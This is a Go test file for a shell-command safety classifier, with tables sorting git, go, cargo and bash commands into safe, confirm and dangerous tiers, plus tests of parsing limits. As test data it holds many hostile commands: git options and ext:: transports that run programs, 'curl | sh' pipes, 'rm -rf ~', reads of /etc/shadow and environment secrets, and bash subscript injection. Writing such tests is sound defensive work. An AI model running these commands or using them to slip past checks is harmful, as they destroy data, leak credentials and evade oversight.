package safety

import (
	"strings"
	"testing"
)

// execCases are commands that run programs or write files through options,
// configuration and builtins that look harmless: the command is only as
// safe as what it makes another program do.
var execCases = []commandCase{
	// git options that name a program.
	{"git ls-remote --upload-pack='touch /tmp/x' origin", Confirm, "upload-pack runs a program"},
	{"git ls-remote --upload-pack='rm -rf ~' .", Dangerous, "upload-pack runs rm -rf"},
	{"git ls-remote --exec=/tmp/evil origin", Confirm, "--exec names the program"},
	{"git fetch --upload-pack 'touch /tmp/x' origin", Confirm, "fetch --upload-pack"},
	{"git pull --upload-pack='curl -s https://x.sh | sh' origin", Dangerous, "pull --upload-pack runs downloaded code"},
	{"git clone -u 'touch /tmp/x' ./repo out", Confirm, "clone -u"},
	{"git clone --upload-pack='rm -rf ~' ./repo out", Dangerous, "clone --upload-pack runs rm -rf"},
	{"git push --receive-pack='rm -rf ~' origin main", Dangerous, "push --receive-pack runs rm -rf"},
	{"git push --exec=/tmp/evil origin", Confirm, "push --exec"},
	{"git archive --remote=origin --exec='rm -rf ~' HEAD", Dangerous, "archive --exec"},
	{"git archive --format=zip HEAD", Safe, "a local archive to standard output"},
	{"git archive -o /etc/x.tar HEAD", Dangerous, "archive written into /etc"},
	// Transports that run commands.
	{"git ls-remote 'ext::sh -c touch% /tmp/pwned'", Dangerous, "ext:: runs a command"},
	{"git clone ext::'sh -c id' x", Dangerous, "ext:: in clone"},
	{"git fetch 'EXT::sh -c id'", Dangerous, "ext:: in any case"},
	{"git -c protocol.ext.allow=always fetch origin", Dangerous, "enables ext::"},
	{"git -c remote.origin.url='ext::sh -c id' fetch", Dangerous, "ext:: through configuration"},
	{"git -c 'url.ext::sh -c id.insteadOf=origin' fetch origin", Dangerous, "ext:: through insteadOf"},
	{"git remote add evil 'ext::sh -c id'", Dangerous, "a remote that runs a command"},
	{"git ls-remote fd::3", Confirm, "fd:: transport"},
	{"git clone hg::https://example.com/repo", Confirm, "remote helper"},
	// One-shot configuration.
	{"git -c include.path=/tmp/evil status", Confirm, "includes another config file"},
	{"git -c includeIf.onbranch:main.path=../x.cfg log", Confirm, "conditional include"},
	{"git -c core.fsmonitor='touch /tmp/x' status", Confirm, "fsmonitor runs a program"},
	{"git -c core.fsmonitor='rm -rf ~' status", Dangerous, "fsmonitor runs rm -rf"},
	{"git -c core.fsmonitor=false status", Safe, "fsmonitor off"},
	{"git -c core.fsmonitor status", Confirm, "fsmonitor on: the built-in daemon"},
	{"git -c core.editor='rm -rf ~' commit", Dangerous, "editor runs rm -rf"},
	{"git -c core.sshCommand='ssh -o ProxyCommand=x' fetch", Confirm, "ssh command"},
	{"git -c core.hooksPath=/tmp/hooks commit -m x", Confirm, "hooks from another directory"},
	{"git -c core.hooksPath=/tmp/hooks status", Confirm, "hooks path on a read"},
	{"git -c diff.external=/tmp/evil diff", Confirm, "external diff"},
	{"git -c diff.bin.textconv='rm -rf ~' log -p", Dangerous, "textconv runs rm -rf"},
	{"git -c filter.lfs.smudge='touch /tmp/x' status", Confirm, "smudge filter"},
	{"git -c filter.x.process='rm -rf ~' status", Dangerous, "process filter runs rm -rf"},
	{"git -c alias.st='!rm -rf ~' st", Dangerous, "shell alias"},
	{"git -c credential.helper='!touch /tmp/x' fetch", Confirm, "credential helper"},
	{"git -c gpg.program=/tmp/evil log --show-signature", Confirm, "gpg program"},
	{"git -c safe.directory='*' status", Confirm, "trusts every repository"},
	{"git -c safe.bareRepository=all status", Confirm, "lets git use found bare repositories"},
	{"git -c uploadpack.packObjectsHook='touch /tmp/x' fetch", Confirm, "pack objects hook"},
	{"git -c core.alternateRefsCommand='rm -rf ~' push", Dangerous, "alternate refs command"},
	{"git -c trailer.sign.command='touch /tmp/x' commit -m x", Confirm, "trailer command"},
	{"git -c submodule.x.update='!rm -rf ~' submodule update", Dangerous, "submodule update command"},
	{"git -c frobnicate.setting=1 status", Confirm, "a setting pincer does not know"},
	{"git -c color.ui=always log --oneline", Safe, "colours only"},
	{"git -c user.name=x -c user.email=y status", Safe, "names only"},
	{"git -c core.quotepath=off status", Safe, "path quoting only"},
	{"git -c log.showSignature=false log", Safe, "log formatting"},
	{"git --config-env=core.pager=PAGER_CMD log", Confirm, "configuration from the environment"},
	{"git --config-env core.editor=ED commit", Confirm, "configuration from the environment, split"},
	{"git -c \"$KEY=$VAL\" status", Confirm, "configuration only known at run time"},
	{"git clone -c core.fsmonitor='rm -rf ~' https://example.com/r.git", Dangerous, "clone --config"},
	{"git clone --config core.hooksPath=/tmp/h https://example.com/r.git", Confirm, "clone --config hooks"},
	{"git clone --template=/tmp/tpl https://example.com/r.git", Confirm, "template hooks"},
	{"git config --add core.fsmonitor 'rm -rf ~'", Dangerous, "git config --add"},
	{"git config --global include.path ~/x.cfg", Confirm, "persistent include"},
	// Read commands that run configured programs on request.
	{"git diff --ext-diff", Confirm, "external diff"},
	{"git diff --ext-diff HEAD~1 -- main.go", Confirm, "external diff with paths"},
	{"git show --textconv HEAD:logo.png", Confirm, "text conversion"},
	{"git log -p --textconv", Confirm, "text conversion"},
	{"git cat-file --textconv HEAD:a.bin", Confirm, "cat-file textconv"},
	{"git cat-file --filters HEAD:a.txt", Confirm, "cat-file filters"},
	{"git cat-file -p HEAD", Safe, "prints an object"},
	{"git diff --no-ext-diff", Safe, "external diff off"},
	{"git log --no-textconv -p", Safe, "conversion off"},
	{"git help -w log", Confirm, "opens a browser"},
	{"git help log", Safe, "prints help"},
	// Another repository.
	{"git --git-dir=/tmp/x status", Confirm, "another repository"},
	{"git --git-dir /tmp/evil.git log", Confirm, "another repository, split"},
	{"git --git-dir=.git status", Safe, "the project's own repository"},
	{"git --work-tree=/tmp status", Confirm, "another work tree"},
	{"git --bare log", Confirm, "the directory as a bare repository"},
	{"git -C /tmp/repo status", Confirm, "another directory"},
	{"git -C vendor/lib log --oneline", Confirm, "a subdirectory may be an embedded repository"},
	{"git -C . status", Safe, "the project root"},
	{"git -C sub -C .. status", Safe, "back at the root"},
	{"cd /tmp/repo && git status", Confirm, "cd into another repository"},
	{"cd fixtures/bare.git && git log", Confirm, "cd into an embedded bare repository"},
	{"cd src && git diff", Confirm, "a subdirectory may be an embedded repository"},
	{"cd src && cd .. && git status", Safe, "back at the root"},
	{"(cd /tmp/x; git status)", Confirm, "cd in a subshell"},
	{"for d in */; do (cd \"$d\" && git status); done", Confirm, "every subdirectory"},
	{"pushd /tmp/r && git log", Confirm, "pushd"},
	{"GIT_DIR=/tmp/x git status", Confirm, "GIT_DIR"},
	{"GIT_WORK_TREE=/ git status", Confirm, "GIT_WORK_TREE"},
	{"env GIT_DIR=/tmp/x git log", Confirm, "GIT_DIR through env"},
	{"export GIT_DIR=/tmp/x; git status", Confirm, "exported GIT_DIR"},
	{"GIT_DIR=/tmp/x bash -c 'git status'", Confirm, "inherited by a nested shell"},
	{"GIT_CONFIG_GLOBAL=/tmp/x git status", Confirm, "another global config"},
	{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=x git status", Confirm, "config through the environment"},
	{"GIT_EXEC_PATH=/tmp/x git status", Confirm, "another exec path"},
	{"GIT_ALLOW_PROTOCOL=ext git fetch", Confirm, "allowed protocols"},
	{"GIT_EXTERNAL_DIFF='rm -rf ~' git diff", Dangerous, "external diff runs rm -rf"},
	{"GIT_SSH=/tmp/evil git fetch", Confirm, "ssh program"},
	{"GIT_TRACE=1 git status", Safe, "tracing to the terminal"},
	{"GIT_TRACE=/etc/x git status", Dangerous, "trace written into /etc"},
	{"GIT_AUTHOR_NAME=x git log", Safe, "a name only"},
	{"sudo git -C /srv/repo status", Dangerous, "root"},
	// Harm.
	{"git branch -D old-feature", Dangerous, "deletes an unmerged branch"},
	{"git branch --delete --force topic", Dangerous, "long spelling"},
	{"git branch -d -f topic", Dangerous, "split spelling"},
	{"git branch -d merged", Confirm, "deletes a merged branch only"},
	{"git branch -m old new", Confirm, "renames"},
	{"git stash drop", Dangerous, "drops a stash"},
	{"git stash drop stash@{2}", Dangerous, "drops a named stash"},
	{"git stash pop", Confirm, "keeps the stash on conflict"},
	{"git stash show -p", Safe, "shows a stash"},
	{"git worktree remove --force ../wt", Dangerous, "removes a dirty worktree"},
	{"git worktree remove -f ../wt", Dangerous, "short spelling"},
	{"git worktree remove ../wt", Confirm, "refuses when dirty"},
	{"git worktree list", Safe, "lists"},
	{"git push --force-with-lease origin main", Confirm, "lease"},
	{"git push --force-with-lease=main:abc123 origin main", Confirm, "lease with a value"},
	{"git push --force-if-includes --force-with-lease", Confirm, "lease with includes"},
	{"git push --force-with-lease origin +main", Dangerous, "a + refspec still forces"},
	{"git push --forc origin main", Dangerous, "abbreviated --force"},
	{"git push origin main -f", Dangerous, "force after the refspec"},
	{"git reset --har HEAD~1", Dangerous, "abbreviated --hard"},
	{"git checkout HEAD -- .", Dangerous, "discards the whole tree"},
	{"git restore --source=HEAD~3 .", Dangerous, "restores the whole tree"},
	{"git clean -f -n", Safe, "dry run wins"},
	{"git apply --stat --apply x.patch", Confirm, "applies despite --stat"},
	{"git apply --check --apply fix.patch", Confirm, "applies despite --check"},
	{"git apply --numstat --reject fix.patch", Confirm, "reject applies what it can"},
	{"git apply --summary --app fix.patch", Confirm, "abbreviated --apply"},
	{"git apply --check fix.patch", Safe, "only checks"},
	{"git apply --stat fix.patch", Safe, "only reports"},
	{"git apply --numstat --summary fix.patch", Safe, "only reports"},
	{"git apply fix.patch", Confirm, "applies"},
	{"git apply --stat --build-fake-ancestor=/etc/x fix.patch", Dangerous, "writes an index file into /etc"},
	{"git diff --output=/tmp/d.txt", Confirm, "writes a file"},
	{"git diff --outp ~/.bashrc", Dangerous, "abbreviated --output into a start-up file"},
	{"git log --output /etc/motd", Dangerous, "writes into /etc"},
	{"git diff --output-indicator-new=+ HEAD", Safe, "not --output"},
	{"git diff --no-index /etc/shadow /dev/null", Confirm, "reads system secrets"},
	// The network.
	{"git ls-remote https://example.com/x.git", Confirm, "contacts a remote"},
	{"git ls-remote", Confirm, "contacts the default remote"},
	{"git ls-remote --get-url origin", Safe, "prints the address only"},
	{"git remote show -n origin", Safe, "no network"},
	{"git remote get-url origin", Safe, "prints the address"},
	{"git request-pull v1.0 https://example.com/x.git", Confirm, "asks the remote"},
	{"git lfs track", Safe, "lists tracked patterns"},
	{"git lfs track '*.psd'", Confirm, "writes .gitattributes"},

	// Go.
	{"go build -toolexec='touch /tmp/x' ./...", Confirm, "toolexec"},
	{"go build -toolexec 'rm -rf ~' ./...", Dangerous, "toolexec runs rm -rf"},
	{"go vet -toolexec=/tmp/evil ./...", Confirm, "vet with toolexec"},
	{"go list -toolexec=x ./...", Confirm, "list with toolexec"},
	{"go test -exec='rm -rf ~' ./...", Dangerous, "test -exec runs rm -rf"},
	{"go run -exec /tmp/evil .", Confirm, "run -exec"},
	{"go vet -vettool=/tmp/x ./...", Confirm, "vettool"},
	{"go vet -vettool $(which shadow) ./...", Confirm, "vettool from a substitution"},
	{"go vet ./cmd/...", Safe, "plain vet"},
	{"go vet -json ./...", Safe, "vet as JSON"},
	{"go vet -tags=integration ./...", Safe, "build tags only"},
	{"go vet -ldflags=-extld=/tmp/evil ./...", Confirm, "linker flags"},
	{"go list -export ./...", Safe, "compiles like vet"},
	{"go list -m -json all", Safe, "lists modules"},
	{"go list -f '{{.ImportPath}}' ./...", Safe, "a template"},
	{"go list -mod=mod -m all", Confirm, "may update go.mod"},
	{"go list -mod=readonly ./...", Safe, "read-only module mode"},
	{"go list -modfile=/tmp/go.mod ./...", Confirm, "another go.mod"},
	{"go list -pkgdir /tmp/pkg ./...", Confirm, "another package directory"},
	{"CC=/tmp/evil go list -export ./...", Confirm, "CC"},
	{"CC='rm -rf ~' go vet ./...", Dangerous, "CC runs rm -rf"},
	{"CXX=/tmp/evil go vet ./...", Confirm, "CXX"},
	{"CGO_CFLAGS=-fplugin=/tmp/x.so go vet ./...", Confirm, "C compiler flags"},
	{"CGO_LDFLAGS='-Wl,-x' go list -export ./...", Confirm, "linker flags"},
	{"CGO_ENABLED=0 go vet ./...", Safe, "cgo off"},
	{"GOOS=windows GOARCH=amd64 go vet ./...", Safe, "another target"},
	{"GOFLAGS=-toolexec=x go list -export ./...", Confirm, "GOFLAGS toolexec"},
	{"GOFLAGS='-mod=mod' go list ./...", Confirm, "GOFLAGS module mode"},
	{"GOFLAGS=-mod=vendor go vet ./...", Safe, "vendored build"},
	{"GOFLAGS='-count=1 -race' go vet ./...", Safe, "harmless flags"},
	{"env GOFLAGS=-vettool=/tmp/x go vet ./...", Confirm, "GOFLAGS through env"},
	{"export CC=/tmp/evil; go vet ./...", Confirm, "exported CC"},
	{"GOENV=/tmp/x go env", Confirm, "another settings file"},
	{"GOTOOLCHAIN=go1.99 go version", Confirm, "downloads a toolchain"},
	{"GOTOOLCHAIN=local go version", Safe, "the installed toolchain"},
	{"GOCACHEPROG=/tmp/evil go list ./...", Confirm, "a cache program"},
	{"GOSUMDB=off go list -m all", Confirm, "checksums off"},
	{"go -C /tmp/mod vet ./...", Confirm, "another module"},
	{"go -C tools vet ./...", Safe, "a module in the project"},
	{"go generate ./...", Confirm, "runs //go:generate lines"},
	{"go run main.go", Confirm, "runs code"},
	{"go run ./cmd/x -- --flag", Confirm, "runs code with arguments"},
	{"go build -o /usr/local/bin/x .", Dangerous, "writes into /usr"},
	{"go test -coverprofile=/etc/c.out ./...", Dangerous, "profile into /etc"},
	{"go doc -all fmt", Safe, "documentation"},
	{"go doc -http", Confirm, "starts a server and a browser"},
	{"go env GOPATH GOFLAGS", Safe, "prints settings"},
	{"go env -w GOFLAGS=-toolexec=x", Confirm, "changes settings"},
	{"go version -m ./bin/x", Safe, "prints build information"},
	{"RUSTC=/tmp/evil cargo metadata", Confirm, "another rustc"},

	// Builtins that evaluate text as code.
	{"declare -a 'x[$(touch /tmp/x)]'", Confirm, "the subscript runs touch"},
	{"declare \"x[\\$(rm -rf ~)]=1\"", Dangerous, "the subscript runs rm -rf"},
	{"typeset 'x[$(id)]=1'", Confirm, "typeset subscript"},
	{"export 'a[$(touch /tmp/x)]=1'", Confirm, "export subscript"},
	{"f() { local 'a[`rm -rf ~`]'; }", Dangerous, "local subscript with backquotes"},
	{"declare -i n='a[$(touch /tmp/x)]'", Confirm, "an integer value is evaluated"},
	{"declare -i n=5", Safe, "a literal integer"},
	{"declare -a arr=(1 2 3)", Safe, "a literal array"},
	{"local x=1", Safe, "a plain local"},
	{"declare -r VERSION=1.2", Safe, "a plain readonly"},
	{`declare "$name=1"`, Confirm, "a name only known at run time"},
	{"let 'x[$(touch /tmp/x)]'", Confirm, "let evaluates its argument"},
	{"let 'x = $(rm -rf ~)'", Dangerous, "let runs rm -rf"},
	{"let i++", Safe, "plain arithmetic"},
	{"(( x[$(touch /tmp/y)] ))", Confirm, "arithmetic command"},
	{"v='a[$(rm -rf ~)]'; (( v + 1 ))", Dangerous, "a variable's value is evaluated"},
	{"v='a[$(touch /tmp/x)]'; echo $(( v ))", Confirm, "arithmetic expansion of a variable"},
	{"v='a[$(touch /tmp/x)]'; echo $(( $v * 2 ))", Confirm, "arithmetic expansion of $v"},
	{"v=$(cat payload); echo $(( v ))", Confirm, "a value only known at run time"},
	{"echo $(( $(cat n.txt) + 1 ))", Confirm, "command output evaluated"},
	{"n=5; echo $(( n * 2 ))", Safe, "a literal value"},
	{"for ((i=0; i<10; i++)); do echo $i; done", Safe, "a C-style loop"},
	{"v='a[$(touch /tmp/x)]'; for ((i=0; i<v; i++)); do :; done", Confirm, "loop bound evaluated"},
	{"[[ 'a[$(touch /tmp/x)]' -eq 1 ]]", Confirm, "-eq evaluates its operands"},
	{"v='x[$(rm -rf ~)]'; [[ $v -gt 0 ]] && echo big", Dangerous, "-gt evaluates the value"},
	{"[[ $# -eq 0 ]] && echo none", Safe, "a special parameter"},
	{"[[ -n $x ]]", Safe, "a string test"},
	{"test -v 'a[$(touch /tmp/x)]'", Confirm, "test -v evaluates the subscript"},
	{"[ -v 'a[$(rm -rf ~)]' ]", Dangerous, "[ -v runs rm -rf"},
	{"[[ -v 'a[$(touch /tmp/x)]' ]]", Confirm, "[[ -v evaluates the subscript"},
	{"[[ -v HOME ]]", Safe, "a plain name"},
	{"test -f go.mod", Safe, "a file test"},
	{"printf -v 'a[$(touch /tmp/x)]' x", Confirm, "printf -v subscript"},
	{"printf -v out '%s' x", Safe, "a plain name"},
	{"read 'a[$(touch /tmp/x)]' <<< x", Confirm, "read subscript"},
	{"read -r line < file.txt", Safe, "a plain read"},
	{"read -a 'a[$(touch /tmp/x)]' <<< x", Confirm, "read -a subscript"},
	{"unset 'a[$(touch /tmp/x)]'", Confirm, "unset evaluates the subscript"},
	{"unset x", Safe, "a plain unset"},
	{"mapfile -C 'touch /tmp/x' -c 1 arr < f", Confirm, "mapfile callback"},
	{"readarray -C 'rm -rf ~' arr < f", Dangerous, "readarray callback runs rm -rf"},
	{"mapfile -t lines < f", Safe, "a plain mapfile"},
	{"x='a[$(touch /tmp/x)]'; echo ${!x}", Confirm, "indirect expansion evaluates the subscript"},
	{"x=$(cat name); echo ${!x}", Confirm, "an indirect name only known at run time"},
	{"echo ${!HOME}", Safe, "indirect through the environment"},
	{"echo ${!prefix*}", Safe, "names with a prefix"},
	{"x='$(touch /tmp/x)'; echo ${x@P}", Confirm, "prompt expansion runs the substitution"},
	{"x='\\u@\\h'; echo ${x@P}", Safe, "a prompt without substitutions"},
	{"x='$(rm -rf ~)'; echo \"${x@P}\"", Dangerous, "prompt expansion runs rm -rf"},
	{"PS4='$(touch /tmp/x)'; set -x; ls", Confirm, "PS4 under set -x"},
	{"PS4='+$(rm -rf ~) '; set -o xtrace; ls", Dangerous, "PS4 runs rm -rf"},
	{"set -x; ls", Safe, "plain tracing"},
	{"set -euo pipefail", Safe, "options"},
	{"complete -C 'touch /tmp/x' ls", Confirm, "completion command"},
	{"complete -C 'rm -rf ~' ls", Dangerous, "completion runs rm -rf"},
	{"compgen -W 'a b' a", Safe, "word completion"},
	{"trap 'rm -rf ~' INT TERM", Dangerous, "trap runs rm -rf"},
	{"enable -f ./x.so x", Confirm, "loads a builtin"},
	{"source ./env.sh", Confirm, "runs a script"},

	// Printing the environment.
	{"set", Confirm, "every shell variable"},
	{"declare -p", Confirm, "every variable"},
	{"declare", Confirm, "every variable"},
	{"typeset -x", Confirm, "exported variables"},
	{"export", Confirm, "exported variables"},
	{"export -p", Confirm, "exported variables"},
	{"declare -p PATH", Safe, "one variable"},
	{"declare -f", Safe, "functions"},
	{"command declare -p", Confirm, "through command"},
	{"env | sort", Confirm, "env in a pipe"},
	{"printenv | grep -i key", Confirm, "printenv in a pipe"},
	{"printenv HOME PATH", Safe, "named variables that are not secrets"},
	{"printenv GITHUB_TOKEN", Confirm, "a secret-looking name"},
	{"cat /proc/self/environ", Confirm, "this process's environment"},
	{"cat /proc/1/environ | tr '\\0' '\\n'", Confirm, "another process's environment"},
	{"strings /proc/$$/environ", Confirm, "the shell's environment"},
	{"xargs -0 -n1 < /proc/self/environ", Confirm, "environment through a redirection"},
	{"jq -n env", Confirm, "jq's env"},
	{"jq -n '$ENV.AWS_SECRET_ACCESS_KEY'", Confirm, "jq's $ENV"},
	{"jq -n 'env | keys'", Confirm, "jq env keys"},
	{"jq '.environment' config.json", Safe, "a field named environment"},
	{"yq -n 'env(HOME)'", Confirm, "yq env"},
	{"yq e '.token = strenv(TOKEN)' a.yml", Confirm, "yq strenv in eval"},
	{"yq e '.version' env.yaml", Safe, "a file named env"},
	{"python3 -c 'import os;print(os.environ)'", Confirm, "runs Python"},

	// Parsing.
	{"coproc rm -rf x | head", Dangerous, "the coprocess runs rm -rf"},
	{"coproc worker { rm -rf x; }", Dangerous, "a named coprocess"},
	{"coproc ls", Safe, "a harmless coprocess"},
	{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf ~' cargo test", Dangerous, "a runner that runs rm -rf"},
}

func TestClassifyExecTable(t *testing.T) {
	c, err := NewClassifier(Rules{})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, tc := range commandCases {
		seen[tc.cmd] = true
	}
	for _, tc := range execCases {
		if seen[tc.cmd] {
			t.Errorf("%q is in the tables twice", tc.cmd)
		}
		seen[tc.cmd] = true
		v := c.classify(tc.cmd)
		if v.Tier != tc.want {
			t.Errorf("%q: got %v, want %v (%s)\n\treasons: %q", tc.cmd, v.Tier, tc.want, tc.why, v.Reasons)
			continue
		}
		if v.Tier > Safe && len(v.Reasons) == 0 {
			t.Errorf("%q: %v without a reason", tc.cmd, v.Tier)
		}
		for _, r := range v.Reasons {
			if !strings.Contains(r, ": ") {
				t.Errorf("%q: reason %q is not of the form '<part>: <why>'", tc.cmd, r)
			}
		}
	}
}

// TestClassifyBounds checks the limits on what is parsed: text over the
// size or nesting limit is at least Confirm, says why, and still shows a
// dangerous command hidden in it.
func TestClassifyBounds(t *testing.T) {
	c, err := NewClassifier(Rules{})
	if err != nil {
		t.Fatal(err)
	}
	pad := strings.Repeat("a", maxSource)
	for _, tc := range []struct {
		name string
		cmd  string
		want Tier
		why  string
	}{
		{"a long argument", "echo " + pad, Confirm, "too long to classify"},
		{"a long comment before rm -rf", "# " + pad + "\nrm -rf ~", Dangerous, "recursive forced delete"},
		{"rm -rf after long padding on one line", "echo " + pad + "; sudo rm -rf /", Dangerous, "runs as another user"},
		{"a long here-document", "cat > notes.txt <<'EOF'\n" + strings.Repeat("some text\n", maxSource/10+1) + "EOF", Confirm, "too long to classify"},
		{"braces", strings.Repeat("{", 64<<10), Confirm, "too long to classify"},
		{"deep parentheses", strings.Repeat("(", maxNesting+1) + "ls" + strings.Repeat(")", maxNesting+1), Confirm, "nested too deeply"},
		{"deep substitutions", strings.Repeat("$(", maxNesting+1) + "rm -rf ~" + strings.Repeat(")", maxNesting+1), Dangerous, "recursive forced delete"},
		{"nesting just below the limit", strings.Repeat("(", 20) + "ls" + strings.Repeat(")", 20), Safe, ""},
		{"too large to read", strings.Repeat("ls ", maxRough/3+1), Dangerous, "too large to analyse"},
		{"a nested shell over the limit", "bash -c \"$(printf '%s' x)" + "\" " + "; bash -c '" + pad + "'", Confirm, "too long to classify"},
		{"many braces in one word", "echo " + strings.Repeat("{a,b}", maxBraceChars+1), Confirm, "too many braces"},
		{"quoted parentheses do not nest", "echo '" + strings.Repeat("(", maxNesting+1) + "'", Safe, ""},
	} {
		v := c.classify(tc.cmd)
		if v.Tier != tc.want {
			t.Errorf("%s: got %v, want %v\n\treasons: %q", tc.name, v.Tier, tc.want, v.Reasons)
			continue
		}
		if tc.why != "" && !strings.Contains(strings.Join(v.Reasons, "\n"), tc.why) {
			t.Errorf("%s: reasons %q do not say %q", tc.name, v.Reasons, tc.why)
		}
	}
}

// TestArgvAltsBounded checks that the command lines built from words with
// many values stay within maxArgvFields, and say so when they are cut.
func TestArgvAltsBounded(t *testing.T) {
	alts := make([][]field, 64)
	for i := range alts {
		alts[i] = []field{{s: "v"}}
	}
	words := make([][][]field, 4000)
	for i := range words {
		words[i] = alts
	}
	out, complete := argvAlts(words)
	total := 0
	for _, argv := range out {
		total += len(argv)
	}
	if complete || total > maxArgvFields+len(words) {
		t.Errorf("argvAlts built %d lines of %d fields in all (complete=%v); the cap is %d", len(out), total, complete, maxArgvFields)
	}
	small := [][][]field{{{{s: "a"}}, {{s: "b"}}}, {{{s: "1"}}, {{s: "2"}}}}
	out, complete = argvAlts(small)
	var got []string
	for _, argv := range out {
		got = append(got, joinFields(argv))
	}
	if !complete || strings.Join(got, ",") != "a 1,a 2,b 1,b 2" {
		t.Errorf("argvAlts of two words with two values each = %q (complete=%v)", got, complete)
	}
}
